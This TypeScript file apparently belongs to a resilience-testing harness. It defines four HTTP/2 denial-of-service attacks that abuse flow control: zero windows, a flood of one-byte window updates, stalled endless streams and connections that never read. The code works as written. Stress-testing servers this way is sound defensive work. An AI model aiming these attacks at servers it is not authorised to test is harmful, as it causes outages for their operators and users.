import type { Attack } from '../attack.ts';
import { writeForEver } from '../attack-sockets.ts';
import { headers, requestBlock, setting, windowUpdate } from '../http2-frames.ts';
import { keepSessionsOpen, type StreamIds } from '../http2-session.ts';

const streamCount = 100;
const greatestWindow = 0x7fffffff;

function requests(ids: readonly number[], host: string, path: string): Buffer {
  const block = requestBlock('GET', host, path);
  return Buffer.concat(ids.map((id) => headers(id, block)));
}

function takeMany(ids: StreamIds): readonly number[] {
  return Array.from({ length: streamCount }, () => ids.take());
}

export const zeroWindows: Attack = {
  name: 'http2-zero-windows',
  summary: 'HTTP/2: 100 streams on one connection that ask for 10 MB each and open no window',
  connections: 1,
  start({ host }, sockets, connections) {
    keepSessionsOpen(
      sockets,
      connections,
      (socket, ids) => socket.write(requests(takeMany(ids), host, '/abuse-http2/large')),
      [setting.initialWindowSize, 0],
    );
  },
};

export const tinyWindows: Attack = {
  name: 'http2-tiny-windows',
  summary: 'HTTP/2: 100 streams on each connection whose windows open by one byte at a time, at full speed',
  connections: 10,
  noticedBy: ['http2.inbound_window_update_frames_flood'],
  start({ host }, sockets, connections) {
    keepSessionsOpen(
      sockets,
      connections,
      (socket, ids) => {
        const open = takeMany(ids);
        socket.write(requests(open, host, '/abuse-http2/large'));
        writeForEver(socket, Buffer.concat(open.map((id) => windowUpdate(id, 1))));
      },
      [setting.initialWindowSize, 1],
    );
  },
};

export const stalledBesideOthers: Attack = {
  name: 'http2-stalled-beside-others',
  summary: 'HTTP/2: 50 answers without end that nobody reads, on the upstream connection that the others use',
  connections: 50,
  othersPath: '/abuse-http2/small',
  start({ host }, sockets, connections) {
    // The windows of a new connection, 64 KiB, are never opened further.
    keepSessionsOpen(sockets, connections, (socket, ids) => {
      socket.write(requests([ids.take()], host, '/abuse-http2/endless'));
    });
  },
};

export const neverReading: Attack = {
  name: 'http2-never-reading',
  summary:
    'HTTP/2: 100 streams on each connection that ask for 10 MB each, every window open, and nobody reads',
  connections: 10,
  start({ host }, sockets, connections) {
    keepSessionsOpen(
      sockets,
      connections,
      (socket, ids) => {
        socket.pause();
        socket.write(windowUpdate(0, greatestWindow - 65_535));
        socket.write(requests(takeMany(ids), host, '/abuse-http2/large'));
      },
      [setting.initialWindowSize, greatestWindow],
    );
  },
};
